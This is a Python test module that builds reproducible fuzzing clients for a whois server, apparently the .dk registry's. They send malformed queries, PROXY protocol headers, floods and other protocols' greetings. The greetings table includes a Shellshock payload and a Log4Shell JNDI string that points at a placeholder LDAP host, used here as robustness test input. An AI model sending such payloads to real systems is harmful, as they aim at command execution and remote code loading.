"""Odd clients: what a port that faces the world is sent, by chance that is the same each time. Knows nothing of answers."""

import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from enum import Enum, auto
from ipaddress import IPv4Address, IPv6Address
from itertools import pairwise
from typing import Final

from support import LOCAL, PROXY, TCP4, UNIX, UNSPECIFIED, binary, v1, v2

Address = IPv4Address | IPv6Address


class Door(Enum):
    """Where a client comes in: at the plain listener, at that of balancers as one of them, or there as anyone else."""

    PLAIN = auto()
    BALANCER = auto()
    STRANGER = auto()


NETWORKS: Final = {Door.PLAIN: "127.1", Door.BALANCER: "127.2", Door.STRANGER: "127.3"}


class Ending(Enum):
    """What a client does when it has sent all."""

    WAIT = auto()  # it reads until the server closes
    HALF_CLOSE = auto()  # it says that it sends no more, and reads
    LINGER = auto()  # it reads, and does not close when the server has
    CLOSE = auto()  # it goes, without reading
    RESET = auto()  # it is cut off

    @property
    def reads(self) -> bool:
        """Whether it waits for what it is owed."""
        return self not in {Ending.CLOSE, Ending.RESET}


@dataclass(frozen=True, slots=True, repr=False)
class Script:
    """All that one client does."""

    kind: str
    door: Door
    source: str
    pieces: tuple[bytes, ...]
    pause: float  # seconds behind each piece
    ending: Ending
    is_patient: bool  # whether it waits for the deadline, if there is nothing else to wait for

    def __repr__(self) -> str:
        sent = self.sent
        return (
            f"{self.kind} at {self.door.name}, {self.ending.name}: "
            f"{len(self.pieces)} pieces, {len(sent)} bytes, {sent[:99]!r}"
        )

    @property
    def sent(self) -> bytes:
        """All that it sends."""
        return b"".join(self.pieces)


# The first words of other protocols, some of which end no line.
GREETINGS: Final[Mapping[str, bytes]] = {
    "tls": bytes.fromhex("16030100a5010000a10303") + bytes(range(158)),
    "http": b"GET / HTTP/1.1\r\nHost: whois.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
    "http-post": b"POST /login HTTP/1.0\r\nContent-Length: 9\r\n\r\nuser=root",
    "http2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x12\x04\0\0\0\0\0",
    "ssh": b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n",
    "rdp": bytes.fromhex("030000130ee000000000000100080003000000"),
    "smb": bytes.fromhex("00000054ff534d4272000000001801280000"),
    "smtp": b"EHLO mail.example\r\nMAIL FROM:<a@mail.example>\r\n",
    "imap": b"a001 CAPABILITY\r\n",
    "pop3": b"CAPA\r\n",
    "ftp": b"USER anonymous\r\nPASS guest@\r\n",
    "telnet": bytes.fromhex("fffd18fffd20fffd23fffd27"),
    "dns": bytes.fromhex("001d000001000001000000000000") + b"\x08eksempel\x02dk\0\0\x01\0\x01",
    "sip": b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",
    "redis": b"*1\r\n$4\r\nPING\r\n",
    "memcached": b"stats\r\n",
    "postgresql": bytes.fromhex("0000000804d2162f"),
    "mongodb": bytes.fromhex("3a0000000100000000000000") + b"\xd4\x07\0\0\0\0\0\0admin.$cmd\0",
    "ldap": bytes.fromhex("300c020101600702010304008000"),
    "socks4": bytes.fromhex("04010050c000020100"),
    "socks5": bytes.fromhex("050100"),
    "vnc": b"RFB 003.008\n",
    "x11": b"l\0\x0b\0\0\0\0\0\0\0\0\0",
    "rsync": b"@RSYNCD: 31.0\n",
    "git": b"0032git-upload-pack /project.git\0host=git.example\0",
    "mqtt": b"\x10\x0c\0\x04MQTT\x04\x02\0\x3c\0\0",
    "bittorrent": b"\x13BitTorrent protocol" + bytes(48),
    "finger": b"root\r\n",
    "gopher": b"/\r\n",
    "rwhois": b"-rwhois V-1.5:00ffff:00 client\r\n",
    "denic": b"-T dn,ace eksempel.dk\r\n",
    "ripe": b"-rBG -T inetnum 192.0.2.0\r\n",
    "verisign": b"domain eksempel.dk\r\n",
    "shell": b"() { :; }; /bin/id\n",
    "log4j": b"${jndi:ldap://192.0.2.1/a}\r\n",
}
_NAMES: Final = (
    *("eksempel.dk", "EKSEMPEL.DK.", "punktum.dk", "dk-hostmaster.dk", "waiting-list.dk", "beskyttet.dk", "suspenderet.dk"),
    *("æøåöäüé.dk", "xn--4cabco7dk5a.dk", "ikke-låst.dk", "dødsbo.dk", "straße.dk", "auth01.ns.dk-hostmaster.dk"),
    *("mangler.dk", "www.eksempel.dk", "ns.example", "EKSEMPEL-DK", "help", "a..dk", "-a.dk", "a_b.dk", "ab--c.dk", "€.dk"),
    *("xn--a.dk", "a" * 64 + ".dk", ".".join(["b" * 63] * 4), "a.dk b.dk", "", "日本.example", "xn--wgv71a.example"),
)  # fmt: skip
_OPTIONS: Final = (
    "",
    "",
    "",
    "--show-handles ",
    "--charset=utf-8 ",
    "--charset=latin1 ",
    "--charset=utf8 --show-handles ",
    "--x ",
)
_ENDS: Final = (b"\r\n", b"\r\n", b"\r\n", b"\n", b"")


def _query(chance: random.Random) -> bytes:
    text = chance.choice(_OPTIONS) + chance.choice(_NAMES)
    return text.encode(chance.choice(("utf-8", "iso-8859-1")), "replace") + chance.choice(_ENDS)


def _flood(chance: random.Random) -> bytes:
    return _query(chance) + chance.choice((b"x", b"\r\n", b"\0")) * (1 << chance.randrange(8, 18))


def _address(chance: random.Random) -> Address:
    if chance.random() < 0.5:
        return IPv4Address(chance.getrandbits(32))
    return IPv6Address(chance.getrandbits(128))


def _line_header(chance: random.Random) -> bytes:
    if chance.random() < 0.2:
        return chance.choice((b"PROXY UNKNOWN\r\n", b"PROXY UNKNOWN ffff:: x\r\n", b"PROXY UNKNOWN" + b" " * 95))
    client = _address(chance)
    text = client.exploded if chance.random() < 0.2 else str(client)
    return v1(text, client, (chance.getrandbits(16), chance.getrandbits(16)))


def _binary_header(chance: random.Random) -> bytes:
    if chance.random() < 0.3:
        family, command = chance.choice(((UNSPECIFIED, LOCAL), (UNSPECIFIED, PROXY), (UNIX, PROXY), (TCP4, LOCAL)))
        return binary(family, bytes(216), command)
    return v2(_address(chance), tlvs=chance.randbytes(chance.choice((0, 0, 7, 300, 4040, 4100))))


def _header(chance: random.Random) -> bytes:
    return chance.choice((_line_header, _binary_header))(chance)


# What clients send, and how often.
_SENDERS: Final[Mapping[str, tuple[int, Callable[[random.Random], bytes]]]] = {
    "query": (40, _query),
    "greeting": (15, lambda chance: chance.choice([*GREETINGS.values()])),
    "binary": (8, lambda chance: chance.randbytes(chance.randrange(1, 1500))),
    "long": (6, lambda chance: b"a" * chance.randrange(1000, 5000) + chance.choice(_ENDS)),
    "limit": (4, lambda chance: b"a.dk".rjust(chance.randrange(1020, 1030)) + chance.choice(_ENDS)),
    "flood": (3, _flood),
    "lines": (4, lambda chance: b"".join(_query(chance) for _ in range(chance.randrange(2, 40)))),
    "header": (4, lambda chance: _header(chance) + _query(chance)),
    "nothing": (6, lambda _: b""),
}


def _spoil(data: bytes, chance: random.Random) -> bytes:
    """Replace, insert or take out some bytes."""
    spoilt = bytearray(data)
    for _ in range(chance.randrange(1, 4)):
        at = chance.randrange(len(spoilt) + 1)
        spoilt[at : at + chance.randrange(3)] = chance.randbytes(chance.randrange(3))
    return bytes(spoilt)


def _cut(data: bytes, chance: random.Random) -> tuple[bytes, ...]:
    """In one piece, in a few, or, if it is not much, in bytes."""
    most = chance.choice((0, 0, 1, 3, len(data) if len(data) < 40 else 2))
    inner = {chance.randrange(1, len(data)) for _ in range(most)} if len(data) > 1 else set()
    return tuple(data[start:end] for start, end in pairwise(sorted({0, *inner, len(data)})))


def client_of(seed: int, number: int) -> Script:
    """What the client of this number does."""
    chance = random.Random(f"{seed}/{number}")  # noqa: S311 - the same each time
    door = chance.choices([*Door], (60, 35, 5))[0]
    (kind,) = chance.choices([*_SENDERS], [share for share, _ in _SENDERS.values()])
    data = _SENDERS[kind][1](chance)
    if door is not Door.PLAIN and chance.random() < 0.9:
        data = _header(chance) + data
    if chance.random() < 0.15:
        data = _spoil(data, chance)
    pieces = _cut(data, chance)
    pause = chance.uniform(0.0001, 0.1 / len(pieces)) if len(pieces) > 1 and chance.random() < 0.2 else 0.0
    ending = chance.choices([*Ending], (600, 250, 2, 100, 100))[0]
    source = f"{NETWORKS[door]}.{chance.randrange(250)}.{chance.randrange(1, 250)}"
    return Script(kind, door, source, pieces, pause, ending, is_patient=chance.random() < 0.03)
